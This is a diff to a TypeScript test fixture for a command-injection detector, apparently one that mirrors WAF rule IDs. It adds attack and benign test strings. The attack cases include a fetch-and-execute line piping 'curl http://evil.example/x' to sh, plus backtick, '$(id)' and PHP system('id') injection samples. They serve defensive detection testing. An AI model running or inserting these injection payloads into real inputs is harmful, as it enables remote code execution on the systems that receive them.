@@ -73,6 +73,8 @@ export const ATTACKS: DetectorCase[] = [
   q("pipe whoami", "x | whoami", "rce"),
   q("command substitution", "$(id)", "rce"),
   q("backticks", "`uname -a`", "rce"),
+  q("backticks glued to a word", "x`whoami`", "932130"),
+  q("code span in prose with a piped download", "a `curl http://evil.example/x|sh` b", "rce"),
   q("quote obfuscation", "a;w'h'o'am'i", "rce"),
   q("input redirection glued to the command", "x;cat<in.txt", "rce"),
   q("php call concatenated after a quote", "x'.system('id').'", "933160"),
@@ -207,6 +209,9 @@ export const BENIGN: DetectorCase[] = [
   q("java exception in an error message", "Caused by: java.io.IOException: Broken pipe"),
   q("java stack frame", "at java.util.concurrent.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1128)"),
   q("spring exception", "org.springframework.web.client.HttpClientErrorException: 404 Not Found"),
+  // Markdown code spans in chat and issue bodies: a command at the start of a value, not a substitution.
+  q("markdown code span", "Run `npm install` first, then `docker ps`"),
+  q("markdown code spans with lone names", "Try `ls` and `pwd`."),
   // Relay-style GraphQL: `node` is a field, not the interpreter.
   q("graphql relay connection", "{ products(first: 10) { edges { node { id title } } } }"),
   q("graphql node by id", "query($id: ID!) { node(id: $id) { __typename ... on Issue { title } } }"),
